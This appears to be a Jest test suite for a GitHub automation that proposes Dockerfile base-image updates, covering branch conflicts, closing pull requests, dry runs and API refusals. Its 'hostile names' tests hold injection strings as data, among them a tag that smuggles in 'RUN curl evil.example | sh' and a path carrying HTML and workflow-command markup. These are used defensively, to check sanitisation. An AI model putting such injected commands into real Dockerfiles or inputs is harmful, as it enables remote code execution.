import { afterEach, describe, expect, it } from '@jest/globals';
import { baseBranch } from '../../../src/publish/change/keep-base.js';
import { baseEnd } from '../../../src/publish/change/keep-bases.js';
import { type Handlers, refusal } from '../../contract/github-fake.js';
import { filesOn, type GitState, git, gitState, openPull, push } from '../../contract/github-git.js';
import { closeGithub, digestOf, type Images, run } from './base-world.js';

const branch = baseBranch('Dockerfile');
const [old, newer, newest] = [digestOf('a'), digestOf('b'), digestOf('c')];
const images: Images = { '20': { digest: old, findings: 14 }, '22': { digest: newer, findings: 2 } };
const dockerfile = '# syntax=docker/dockerfile:1\r\nFROM node:20 AS build\r\nRUN x';
const better = dockerfile.replace('node:20', 'node:22');

function repository(
  files: Readonly<Record<string, string>> = { Dockerfile: dockerfile, 'README.md': 'read' },
): GitState {
  const state = gitState();
  push(state, 'main', files);
  return state;
}

/** A repository whose pull request is open. */
async function proposed(): Promise<GitState> {
  const state = repository();
  await run(state, { images });
  return state;
}

/** GitHub's "Update branch": a merge of main into the branch. */
function updateBranch(state: GitState, extra: Readonly<Record<string, string>> = {}): void {
  const [main, own] = [state.refs.get('heads/main') ?? '', state.refs.get(`heads/${branch}`) ?? ''];
  const merge = push(
    state,
    branch,
    { ...filesOn(state, 'main'), Dockerfile: better, ...extra },
    `Merge branch 'main' into ${branch}`,
  );
  const commit = state.commits.get(merge);
  if (commit !== undefined) state.commits.set(merge, { ...commit, parents: [own, main] });
}

afterEach(closeGithub);

describe('a Dockerfile with a better base', () => {
  it('gets a pull request that changes the FROM and no other byte', async () => {
    const state = repository();
    state.modes.set('Dockerfile', '100755');
    const { outcomes, outputs } = await run(state, { images, labels: ['docker'] });
    expect(outcomes).toMatchObject([{ kind: 'proposed', path: 'Dockerfile', became: 'opened', pull: { number: 1 } }]);
    expect(outputs).toMatchObject({ 'pull-requests': '[1]', opened: '1', closed: '0', failed: '0' });
    expect(filesOn(state, branch)).toEqual({ Dockerfile: better, 'README.md': 'read' });
    expect(state.modes.get('Dockerfile')).toBe('100755');
    expect(filesOn(state, 'main').Dockerfile).toBe(dockerfile);
    expect(state.pulls).toMatchObject([
      { title: 'Update node:20 to 22 in Dockerfile', head: branch, base: 'main', labels: ['docker'] },
    ]);
  });

  it('says in it what was measured, when, and with which advisories', async () => {
    const state = await proposed();
    const body = state.pulls[0]?.body ?? '';
    expect(body).toContain('| `20` (now) | 0 | 0 | 14 |');
    expect(body).toMatch(/\| \*\*`22`\*\* \| 0 \| 0 \| 2 \|.* clears 12 of 14 \|/);
    expect(body).toContain(`\`Dockerfile:2\`: \`node:22\` (\`${newer}\`)`);
    expect(body).toContain(
      'judged by itself on 2026-03-01 12:00 UTC, with Trivy `0.69.3`, the advisories of `2026-02-28T06:00:00Z`',
    );
  });

  it('is pinned where that is asked for, and keeps the pin that it has', async () => {
    const state = repository();
    await run(state, { images, pin: true });
    expect(filesOn(state, branch).Dockerfile).toBe(dockerfile.replace('node:20', `node:22@${newer}`));
    const pinned = repository({ Dockerfile: `FROM node:22@${old}` });
    await run(pinned, { images: { '22': { digest: newer, findings: 2 } } });
    expect(filesOn(pinned, branch).Dockerfile).toBe(`FROM node:22@${newer}`);
    expect(pinned.pulls[0]?.title).toBe('Update node:22 to its newest build in Dockerfile');
  });

  it('is untouched in a second run a week later, also when the base branch has moved on elsewhere', async () => {
    const state = await proposed();
    expect(await run(state, { images, later: 7 })).toMatchObject({ outcomes: [{ became: 'unchanged' }], writes: [] });
    push(state, 'main', { Dockerfile: dockerfile, 'README.md': 'read on' });
    expect(await run(state, { images })).toMatchObject({ outcomes: [{ became: 'unchanged' }], writes: [] });
    updateBranch(state);
    expect(await run(state, { images })).toMatchObject({ outcomes: [{ became: 'unchanged' }], writes: [] });
  });

  it('is made anew where its file has changed on the base branch', async () => {
    const state = await proposed();
    push(state, 'main', { Dockerfile: `${dockerfile}y` });
    expect(await run(state, { images })).toMatchObject({ outcomes: [{ became: 'updated', pull: { number: 1 } }] });
    expect(filesOn(state, branch)).toEqual({ Dockerfile: `${better}y` });
  });

  it('follows a candidate that is better still, in branch, title and text', async () => {
    const state = await proposed();
    const more = { ...images, '22.1': { digest: newest, findings: 1 } };
    expect(await run(state, { images: more })).toMatchObject({
      outcomes: [{ became: 'updated', pull: { number: 1 } }],
    });
    expect(filesOn(state, branch).Dockerfile).toContain('FROM node:22.1 AS');
    expect(state.pulls).toMatchObject([
      { title: 'Update node:20 to 22.1 in Dockerfile', body: expect.stringContaining('13 of 14') },
    ]);
  });

  it('has nothing to do once it is merged, and proposes the next one from the same branch', async () => {
    const state = await proposed();
    Object.assign(state.pulls[0] ?? {}, { state: 'merged' });
    push(state, 'main', { Dockerfile: better });
    expect(await run(state, { images })).toMatchObject({ outcomes: [{ kind: 'none' }], writes: [] });
    const more = { ...images, '24': { digest: newest, findings: 0 } };
    expect(await run(state, { images: more })).toMatchObject({ outcomes: [{ became: 'opened', pull: { number: 2 } }] });
  });
});

describe('a pull request that is needed no more', () => {
  it('is closed with the reason when a person has done it, which is nobody’s no', async () => {
    const state = await proposed();
    push(state, 'main', { Dockerfile: better });
    const { outcomes, outputs } = await run(state, { images });
    expect(outcomes).toMatchObject([{ kind: 'none', closed: { number: 1 } }]);
    expect(outputs).toMatchObject({ closed: '1', 'pull-requests': '[]' });
    expect(state.pulls[0]).toMatchObject({
      state: 'closed',
      comments: [expect.stringContaining('Nothing is left to propose')],
    });
    push(state, 'main', { Dockerfile: dockerfile });
    expect(await run(state, { images })).toMatchObject({ outcomes: [{ became: 'opened', pull: { number: 2 } }] });
  });

  it('is closed when the candidate is no better any more', async () => {
    const state = await proposed();
    const worse = { ...images, '22': { digest: newer, findings: 14 } };
    const { outcomes } = await run(state, { images: worse });
    expect(outcomes).toMatchObject([
      { kind: 'none', why: expect.stringContaining('no candidate is better'), closed: { number: 1 } },
    ]);
  });

  it.each<[string, Images]>([
    ['candidate', { ...images, '22': { digest: newer, findings: 2, fails: true } }],
    ['base', { ...images, '20': { digest: old, findings: 14, fails: true } }],
  ])('stays open where its %s could not be judged', async (_, unjudged) => {
    const state = await proposed();
    const { outcomes, writes } = await run(state, { images: unjudged });
    expect([outcomes, writes]).toMatchObject([[{ why: expect.stringContaining('could not be judged') }], []]);
    expect(state.pulls[0]?.state).toBe('open');
  });

  it('is left alone where somebody has written to its branch', async () => {
    const state = await proposed();
    push(state, branch, { Dockerfile: better, 'test.js': 'mine' }, 'Mine');
    push(state, 'main', { Dockerfile: better });
    expect(await run(state, { images })).toMatchObject({
      outcomes: [{ kind: 'left', pull: { number: 1 } }],
      writes: [],
    });
  });
});

describe('what people do', () => {
  it.each<[string, (state: GitState) => void]>([
    ['a push of a person', (state) => void push(state, branch, { Dockerfile: `${better}\n# mine` }, 'Mine')],
    ['a merge with lines of a person', (state) => updateBranch(state, { 'mine.txt': 'mine' })],
  ])('%s to the branch is never overwritten', async (_, pushed) => {
    const state = await proposed();
    pushed(state);
    const before = state.refs.get(`heads/${branch}`);
    const more = { ...images, '24': { digest: newest, findings: 0 } };
    const { outcomes, writes, outputs, failure } = await run(state, { images: more });
    expect(outcomes).toMatchObject([
      { kind: 'left', why: expect.stringContaining('somebody else has written'), pull: { number: 1 } },
    ]);
    expect([writes, state.refs.get(`heads/${branch}`), outputs.failed]).toEqual([[], before, '0']);
    expect(baseEnd(outcomes, failure)).toBe(0);
  });

  it('a push of a person while the next commit is made is not overwritten either', async () => {
    const state = await proposed();
    const more = { ...images, '24': { digest: newest, findings: 0 } };
    const commit = git(state)['git/create-commit'];
    const handlers: Handlers = {
      'git/create-commit': (call) => {
        push(state, branch, { Dockerfile: 'mine' }, 'Mine');
        return commit?.(call) ?? refusal(500);
      },
    };
    const { outcomes } = await run(state, { images: more, handlers });
    expect(outcomes).toMatchObject([{ kind: 'left', why: expect.stringContaining('somebody else has written') }]);
    expect(filesOn(state, branch)).toEqual({ Dockerfile: 'mine' });
  });

  it('"Update branch" is none: what GitHub has merged is brought up to date', async () => {
    const state = await proposed();
    push(state, 'main', { Dockerfile: dockerfile, 'README.md': 'read on' });
    updateBranch(state);
    const more = { ...images, '24': { digest: newest, findings: 0 } };
    expect(await run(state, { images: more })).toMatchObject({ outcomes: [{ became: 'updated' }] });
    expect(filesOn(state, branch).Dockerfile).toContain('FROM node:24 AS');
  });

  it('a pull request that is closed unmerged is a no to that very image, and not to a newer one', async () => {
    const state = await proposed();
    Object.assign(state.pulls[0] ?? {}, { state: 'closed' });
    const again = await run(state, { images });
    expect(again).toMatchObject({
      outcomes: [{ kind: 'none', why: expect.stringContaining('was closed unmerged') }],
      writes: [],
    });
    const rebuilt = { ...images, '22': { digest: newest, findings: 2 } };
    expect(await run(state, { images: rebuilt })).toMatchObject({
      outcomes: [{ became: 'opened', pull: { number: 2 } }],
    });
  });

  it('a branch of that name that is somebody else’s is not ours', async () => {
    const state = repository();
    push(state, branch, { Dockerfile: 'theirs' }, 'Theirs');
    expect(await run(state, { images })).toMatchObject({ outcomes: [{ kind: 'left' }] });
    expect(filesOn(state, branch)).toEqual({ Dockerfile: 'theirs' });
  });

  it('a pull request of a fork whose branch has that name says nothing', async () => {
    const state = repository();
    const body = 'Made by image-gate/base.';
    openPull(state, 1, { head: branch, from: 'mallory/octo-repo', body, state: 'closed' });
    openPull(state, 2, { head: branch, from: 'mallory/octo-repo', body });
    expect(await run(state, { images })).toMatchObject({ outcomes: [{ became: 'opened', pull: { number: 3 } }] });
    expect(state.pulls[1]).toMatchObject({ body, state: 'open' });
  });
});

describe('a run', () => {
  const three = { 'a/Dockerfile': dockerfile, 'b/Dockerfile': dockerfile, 'c/Containerfile': dockerfile };

  it('opens no more pull requests than it may, and counts the others', async () => {
    const state = repository(three);
    const first = await run(state, { images, mayOpen: 2 });
    expect(first.outcomes.map(({ kind }) => kind)).toEqual(['proposed', 'proposed', 'waiting']);
    expect(first.outputs).toMatchObject({ opened: '2', waiting: '1', dockerfiles: '3' });
    const second = await run(state, { images, mayOpen: 2 });
    expect(second.outputs).toMatchObject({ opened: '1', waiting: '0', 'pull-requests': '[1,2,3]' });
  });

  it('asks GitHub a few times, as docs/base-pull-requests.md says', async () => {
    const state = repository();
    expect((await run(state, { images })).asked).toBeLessThanOrEqual(15);
    expect((await run(state, { images })).asked).toBeLessThanOrEqual(10);
    const none = { '20': { digest: old, findings: 3 } };
    expect((await run(repository(), { images: none })).asked).toBeLessThanOrEqual(6);
  });

  it('writes nothing when it is dry', async () => {
    const state = repository();
    expect(await run(state, { images, isDryRun: true })).toMatchObject({
      outcomes: [{ kind: 'planned', title: 'Update node:20 to 22 in Dockerfile' }],
      writes: [],
    });
    await run(state, { images });
    push(state, 'main', { Dockerfile: better });
    expect(await run(state, { images, isDryRun: true })).toMatchObject({
      outcomes: [{ kind: 'planned', title: 'Close pull request 1' }],
      writes: [],
    });
  });

  it('opens nothing without anything better, and says why', async () => {
    const { outcomes, writes } = await run(repository(), { images: { '20': { digest: old, findings: 3 } } });
    expect([outcomes, writes]).toMatchObject([
      [{ kind: 'none', why: 'line 2: no candidate: the registry has no newer image' }],
      [],
    ]);
  });

  it('fails for what it has no answer for, once the others have theirs', async () => {
    const state = repository({ ...three, 'd/Dockerfile': 'FROM node:21\n' });
    const unjudged = { ...images, '21': { digest: newest, findings: 1, fails: true as const } };
    const { outcomes, failure, outputs } = await run(state, {
      images: unjudged,
      dockerfiles: ['d/Dockerfile', 'a/Dockerfile', 'none'],
    });
    expect(outcomes.map(({ kind, path }) => `${kind} ${path}`)).toEqual([
      'failed d/Dockerfile',
      'proposed a/Dockerfile',
      'failed none',
    ]);
    expect(outputs.failed).toBe('2');
    expect(() => baseEnd(outcomes, failure)).toThrow(
      /no answer for d\/Dockerfile: .*registry did not answer.*, and 1 more Dockerfile/,
    );
  });

  it('names a repository without a Dockerfile', async () => {
    await expect(run(repository({ 'README.md': '' }), { images })).rejects.toMatchObject({ code: 'dockerfile-absent' });
  });

  it.each([
    [
      'pulls/create',
      refusal(403, 'GitHub Actions is not permitted to create pull requests'),
      'pull-request-denied',
      /Allow GitHub Actions to create/,
    ],
    [
      'git/create-ref',
      refusal(422, 'Repository rule violations found'),
      'github-branch-refused',
      /rule of the repository/,
    ],
    ['git/create-ref', refusal(403), 'github-denied', /contents: write/],
    ['git/create-blob', refusal(403, 'rate limit', { 'x-ratelimit-remaining': '0' }), 'github-rate-limited', /later/],
    ['pulls/list', refusal(403), 'github-denied', /pull-requests: read/],
  ])('ends where GitHub refuses %s, and tries no other Dockerfile', async (operation, answer, code, fix) => {
    const state = repository(three);
    const { outcomes, failure } = await run(state, { images, handlers: { [operation]: () => answer } });
    expect(outcomes.map(({ kind }) => kind)).toEqual(['failed', 'failed', 'failed']);
    expect(outcomes[1]).toMatchObject({ why: expect.stringContaining('was not tried') });
    expect(failure).toMatchObject({ code, fix: expect.stringMatching(fix) });
    expect(() => baseEnd(outcomes, failure)).toThrow(failure);
  });

  it('goes on where an earlier one ended before the pull request was there', async () => {
    const state = repository();
    await run(state, { images, handlers: { 'pulls/create': () => refusal(403) } });
    expect(state.pulls).toEqual([]);
    expect(await run(state, { images })).toMatchObject({ outcomes: [{ became: 'opened' }] });
  });
});

describe('hostile names', () => {
  it('of a Dockerfile, an image and a tag are text in title, message and body', async () => {
    const path = 'x <img src=x onerror=1> @octocat fixes #1\n::error::/`Dockerfile';
    const state = repository({ [path]: 'FROM reg.example:5000/a_b/c__d:1 AS x\n' });
    const hostile: Images = {
      '1': { digest: old, findings: 9 },
      '2_x--3': { digest: newer, findings: 1 },
      '3 | @octocat\n# x': { digest: newest, findings: 5 },
    };
    const { outcomes } = await run(state, { images: hostile, dockerfiles: [path] });
    expect(outcomes).toMatchObject([
      { kind: 'proposed', title: 'Update reg.example:5000/a_b/c__d:1 to 2_x--3 in a Dockerfile' },
    ]);
    const [pull] = state.pulls;
    const message = state.commits.get(state.refs.get(`heads/${pull?.head}`) ?? '')?.message ?? '';
    for (const text of [pull?.title ?? '', message, pull?.body ?? '', pull?.head ?? '']) {
      expect(text).not.toMatch(/<img|@octocat|fixes #1|^::|\n# x/m);
    }
    expect(pull?.body).toContain('<!-- image-gate base: ');
  });

  it('of a registry never become more than a tag in the file', async () => {
    const hostile: Images = {
      '20': { digest: old, findings: 9 },
      '22\nRUN curl evil.example | sh': { digest: newer, findings: 1 },
    };
    const { outcomes, writes } = await run(repository(), { images: hostile });
    expect([outcomes, writes]).toMatchObject([
      [{ kind: 'none', why: expect.stringContaining('the new name is none') }],
      [],
    ]);
  });
});
